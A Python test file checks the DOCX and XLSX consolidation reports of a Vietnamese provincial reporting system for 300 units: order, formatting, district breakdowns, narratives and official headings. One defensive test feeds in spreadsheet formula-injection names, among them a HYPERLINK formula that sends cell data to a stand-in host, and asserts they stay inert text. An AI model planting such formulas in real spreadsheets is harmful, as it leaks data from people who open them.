"""The DOCX and XLSX of a consolidation of 300 units: every unit once, in order, with the
formatting of its row; every district's column in the breakdown; every narrative. The
writers copy one model row per table and one model paragraph per look, so these check the
copies, row by row, not just the first few."""

from __future__ import annotations

import io
import zipfile
from collections import Counter
from dataclasses import replace
from datetime import date, timedelta
from typing import Any

import pytest
from docx import Document
from docx.document import Document as DocxDocument
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Mm
from docx.table import Table
from openpyxl import load_workbook  # type: ignore[import-untyped]

from services.reports.adapters.documents import render_docx, render_xlsx, vn_number
from services.reports.domain.consolidation import (
    Consolidation,
    SubmissionFacts,
    UnitFacts,
)
from services.reports.domain.model import Obligation, ObligationStatus
from shared.vntime import last_instant_before
from tests import builders

DISTRICTS = 20
COMMUNES_PER_DISTRICT = 14  # 20 districts + 280 communes = 300 units
DUE = last_instant_before(date(2023, 6, 10))
STATUS_HEADER = ["TT", "Đơn vị", "Loại đơn vị", "Tình trạng", "Thời điểm nộp"]
STATUS_WIDTHS_MM = (10, 55, 30, 38, 32)


def _units() -> dict[str, UnitFacts]:
    found = {
        "T89": UnitFacts("T89", "Ủy ban nhân dân tỉnh An Bình", "province", ("T89",)),
        "SNV": UnitFacts("SNV", "Sở Nội vụ", "department", ("T89", "SNV"), "T89", "T89"),
    }
    for d in range(1, DISTRICTS + 1):
        district = f"H{d:02d}"
        name = f"Ủy ban nhân dân huyện Tân Phú {d}"
        found[district] = UnitFacts(district, name, "district", ("T89", district), "T89", "SNV")
        for x in range(1, COMMUNES_PER_DISTRICT + 1):
            code = f"X{d:02d}{x:02d}"
            name = f"Ủy ban nhân dân xã Hòa Bình {d}-{x}"
            path = ("T89", district, code)
            found[code] = UnitFacts(code, name, "commune", path, district, "SNV")
    return found


def _obligation(unit: UnitFacts, status: ObligationStatus) -> Obligation:
    return builders.six_month_obligation(unit.code, unit.path, status)


def _fixture() -> tuple[list[Obligation], list[SubmissionFacts], dict[str, UnitFacts]]:
    """Unit n (in tree order, from 0): every 10th missing, every 7th late, every 13th
    returned; each report gives n citizens and a two-line narrative."""
    units = _units()
    reporting = [u for u in units.values() if u.code not in ("T89", "SNV")]
    obligations, submissions = [], []
    for n, unit in enumerate(reporting):
        if n % 10 == 0:
            obligations.append(_obligation(unit, ObligationStatus.OPEN))
            continue
        returned = n % 13 == 0
        status = ObligationStatus.RETURNED if returned else ObligationStatus.SUBMITTED
        obligations.append(_obligation(unit, status))
        at = DUE + timedelta(hours=2) if n % 7 == 0 else DUE - timedelta(days=1)
        narrative = {"3": f"Tiếp công dân tại {unit.name}.\nĐã giải quyết {n} đơn."}
        facts = builders.submission_facts(
            unit.code,
            1,
            at,
            {"citizens_received": n},
            report_id=f"r-{unit.code}",
            receipt_number=f"BC-2023-{n:06d}",
            status="returned" if returned else "submitted",
            narrative=narrative,
        )
        submissions.append(facts)
    return obligations, submissions, units


@pytest.fixture(scope="module")
def big() -> Consolidation:
    obligations, submissions, units = _fixture()
    areas = {"3": "Tiếp công dân"}
    return builders.consolidation(obligations, submissions, units, content_areas=areas)


@pytest.fixture(scope="module")
def docx(big: Consolidation) -> DocxDocument:
    return Document(io.BytesIO(render_docx(big)))


def _texts(table: Table) -> list[list[str]]:
    return [[cell.text for cell in row.cells] for row in table.rows]


def _table(doc: DocxDocument, header: list[str]) -> Table:
    return next(t for t in doc.tables if _texts(t)[0] == header)


def test_the_fixture_is_what_the_tests_below_assume(big: Consolidation) -> None:
    # 300 units in tree order: H01, X0101 … X0114, H02, …; n = 0, 10, …, 290 missing.
    assert big.counts.expected == 300
    assert big.counts.missing == 30
    assert big.status[0].code == "H01" and big.status[1].code == "X0101"
    assert [g.key for g in big.by_district] == [f"H{d:02d}" for d in range(1, 21)]


def test_docx_lists_every_unit_once_in_order(big: Consolidation, docx: DocxDocument) -> None:
    rows = _texts(_table(docx, STATUS_HEADER))[1:]
    assert len(rows) == 300
    assert [r[0] for r in rows] == [str(n) for n in range(1, 301)]
    assert [r[1] for r in rows] == [s.name for s in big.status]
    names = Counter(r[1] for r in rows)
    assert set(names.values()) == {1}
    by_code = {s.code: r for s, r in zip(big.status, rows, strict=True)}
    # n = 0 (H01) missing; n = 7 (X0107) late; n = 13 (X0113) on time then returned; n = 1
    # (X0101) on time, a day before the deadline (09/06 23:59:59 ICT).
    assert by_code["H01"][2:] == ["Cấp huyện", "Chưa nộp", ""]
    assert by_code["X0107"][3] == "Đã nộp muộn"
    assert by_code["X0113"][3] == "Đã nộp đúng hạn; bị trả lại để hoàn thiện"
    assert by_code["X0101"][2:] == ["Cấp xã", "Đã nộp đúng hạn", "08/06/2023 23:59"]


def test_docx_rows_keep_their_formatting_down_to_the_last(docx: DocxDocument) -> None:
    table = _table(docx, STATUS_HEADER)
    header, *rows = table.rows
    widths = [round(Mm(w).twips) for w in STATUS_WIDTHS_MM]
    assert [round(c.width.twips) for c in table.columns] == widths  # type: ignore[union-attr]
    assert header._tr.trPr is not None and header._tr.trPr.find(qn("w:tblHeader")) is not None
    for cell in header.cells:
        [run] = cell.paragraphs[0].runs
        assert (run.bold, run.font.size.pt) == (True, 12)  # type: ignore[union-attr]
        assert cell.paragraphs[0].alignment == WD_ALIGN_PARAGRAPH.CENTER
    for row in rows:
        assert row._tr.trPr is None  # the header repeats; body rows do not
        assert [round(c.width.twips) for c in row.cells] == widths  # type: ignore[union-attr]
        for cell in row.cells:
            [paragraph] = cell.paragraphs
            assert paragraph.paragraph_format.space_after == 0
            for run in paragraph.runs:
                assert (run.bold, run.italic, run.font.size.pt) == (False, False, 12)  # type: ignore[union-attr]


def test_docx_breaks_districts_into_tables_of_five_columns(
    big: Consolidation, docx: DocxDocument
) -> None:
    tables = [_texts(t) for t in docx.tables if _texts(t)[0][:2] == ["TT", "Chỉ tiêu"]]
    # General table (4 columns), by kind (district, commune), by district (20 → 4 × 5).
    by_district = [t for t in tables if t[0][2].startswith("UBND huyện")]
    assert [len(t[0]) for t in by_district] == [7, 7, 7, 7]
    labels = [label for t in by_district for label in t[0][2:]]
    assert labels == [
        f"{g.label.replace('Ủy ban nhân dân', 'UBND')} ({g.reports}/{g.expected} báo cáo)"
        for g in big.by_district
    ]
    citizens = [
        cell
        for t in by_district
        for row in t
        if row[1] == "Số lượt công dân được tiếp"
        for cell in row[2:]
    ]
    # H01's group: n = 0 … 14 less missing 0 and 10, returned 13: 1+…+14 − 10 − 13 = 82.
    assert citizens[0] == "82"
    assert citizens == [vn_number(g.totals["citizens_received"]) for g in big.by_district]
    assert "1.072" in citizens  # H06's group: Vietnamese thousands


def test_docx_numbers_are_right_aligned_in_every_breakdown_row(docx: DocxDocument) -> None:
    for table in docx.tables:
        if [c.text for c in table.rows[0].cells][:2] != ["TT", "Chỉ tiêu"]:
            continue
        numeric_from = 3 if table.rows[0].cells[2].text == "Đơn vị tính" else 2
        for row in table.rows[1:]:
            aligns = [c.paragraphs[0].alignment for c in row.cells]
            assert aligns[:numeric_from] == [None] * numeric_from
            assert set(aligns[numeric_from:]) == {WD_ALIGN_PARAGRAPH.RIGHT}


def test_docx_narratives_name_every_counted_unit(big: Consolidation, docx: DocxDocument) -> None:
    paragraphs = docx.paragraphs
    start = next(i for i, p in enumerate(paragraphs) if p.text == "3. Tiếp công dân")
    entries = [p for p in paragraphs[start + 1 :] if p.text.startswith("- ")]
    counted = [s for s in big.status if s.counted]
    assert len(counted) == 300 - 30 - sum(s.returned for s in big.status)
    assert [p.runs[0].text for p in entries] == [f"- {s.name}: " for s in counted]
    assert all(p.runs[0].bold and not p.runs[1].bold for p in entries)
    assert entries[0].runs[1].text == f"Tiếp công dân tại {counted[0].name}."
    following = [paragraphs[paragraphs.index(p) + 1].text for p in entries[:3]]
    assert following == ["Đã giải quyết 1 đơn.", "Đã giải quyết 2 đơn.", "Đã giải quyết 3 đơn."]
    assert paragraphs[-1].text.startswith("Trên đây là báo cáo")


def test_xlsx_has_one_row_per_unit_in_order_each_cell_styled(big: Consolidation) -> None:
    workbook = load_workbook(io.BytesIO(render_xlsx(big)))
    status = workbook["Tình hình nộp báo cáo"]
    rows: list[tuple[Any, ...]] = list(status.iter_rows(values_only=True))
    assert len(rows) == 301
    assert [r[0] for r in rows[1:]] == [s.code for s in big.status]
    assert rows[1][4] == "Chưa nộp" and rows[1][9] in ("", None)
    assert status.freeze_panes == "A2"
    assert status.column_dimensions["B"].width == 40
    for line in status.iter_rows():
        for cell in line:
            assert (cell.font.name, cell.font.sz, cell.font.b) == (
                "Times New Roman",
                12,
                cell.row == 1,
            )
            assert (cell.alignment.wrap_text, cell.alignment.vertical) == (True, "top")
    indicators = workbook["Chỉ tiêu"]
    header = next(indicators.iter_rows(values_only=True))
    assert len(header) == 4 + 2 + 20  # totals, two kinds, twenty districts
    assert header[6] == "Địa bàn: Ủy ban nhân dân huyện Tân Phú 1"


def test_xlsx_writes_a_formula_in_a_unit_name_as_text() -> None:
    # A unit renamed to a formula: in Home Affairs' spreadsheet it is the name, as text,
    # unchanged, marked so that editing the cell keeps it text; nothing evaluates it.
    obligations, submissions, units = _fixture()
    hostile = {
        "X0101": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "X0102": "+1+2",
        "X0103": "-2+3",
        "X0104": "@SUM(1,2)",
        "X0105": "#N/A",
    }
    for code, name in hostile.items():
        units[code] = replace(units[code], name=name)
    c = builders.consolidation(obligations, submissions, units)
    raw = render_xlsx(c)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    status = load_workbook(io.BytesIO(raw))["Tình hình nộp báo cáo"]
    cells = {row[0].value: row[1] for row in status.iter_rows(min_row=2)}
    for code, name in hostile.items():
        assert (cells[code].value, cells[code].data_type) == (name, "s")
        assert cells[code].quotePrefix is (name != "#N/A")
    assert cells["X0106"].quotePrefix is False


def _seed_like(receiving_unit: str) -> DocxDocument:
    """Units registered as the seed's demo registers them: provinces, districts and
    communes by their locality's name ("Tỉnh An Bình"), not their committee's."""
    units = {
        "T89": UnitFacts("T89", "Tỉnh An Bình", "province", ("T89",)),
        "SNV": UnitFacts("SNV", "Sở Nội vụ", "department", ("T89", "SNV"), "T89", "T89"),
        "H801": UnitFacts("H801", "Thành phố An Bình", "district", ("T89", "H801"), "T89", "SNV"),
        "X1": UnitFacts("X1", "Phường Hải Bắc", "commune", ("T89", "H801", "X1"), "H801", "H801"),
    }
    owed = replace(
        _obligation(
            units["H801"] if receiving_unit == "SNV" else units["X1"], ObligationStatus.OPEN
        ),
        receiving_unit=receiving_unit,
    )
    c = builders.consolidation([owed], [], units, receiving_unit)
    return Document(io.BytesIO(render_docx(c)))


def test_docx_heading_names_the_issuing_authority_as_decree_30_does() -> None:
    # A department: its governing authority (the province's People's Committee,
    # abbreviated, regular) above its own name (bold); the place is the province's.
    department = _seed_like("SNV")
    left, right = (cell.paragraphs for cell in department.tables[0].rows[0].cells)
    assert [p.text for p in left[:2]] == ["UBND TỈNH AN BÌNH", "SỞ NỘI VỤ"]
    assert [r.bold for p in left[:2] for r in p.runs] == [False, True]
    assert "/BC-SNV" in left[-1].text
    assert right[-1].text.startswith("An Bình, ngày 20 tháng 6 năm 2023")
    closing = department.tables[-1].rows[0].cells[0].text
    assert "- Ủy ban nhân dân tỉnh An Bình (để báo cáo);" in closing
    # A district-level People's Committee: no authority above it; its name on two lines,
    # bold; it signs on behalf of the committee and writes UBND in its symbol.
    district = _seed_like("H801")
    left, right = (cell.paragraphs for cell in district.tables[0].rows[0].cells)
    assert [p.text for p in left[:2]] == ["ỦY BAN NHÂN DÂN", "THÀNH PHỐ AN BÌNH"]
    assert all(r.bold for p in left[:2] for r in p.runs)
    assert "/BC-UBND" in left[-1].text
    assert right[-1].text.startswith("An Bình, ngày")
    signer = district.tables[-1].rows[0].cells[1].text
    assert signer.startswith("TM. ỦY BAN NHÂN DÂN\nCHỦ TỊCH")
    text = "\n".join(p.text for p in district.paragraphs)
    assert "Ủy ban nhân dân thành phố An Bình tổng hợp" in text
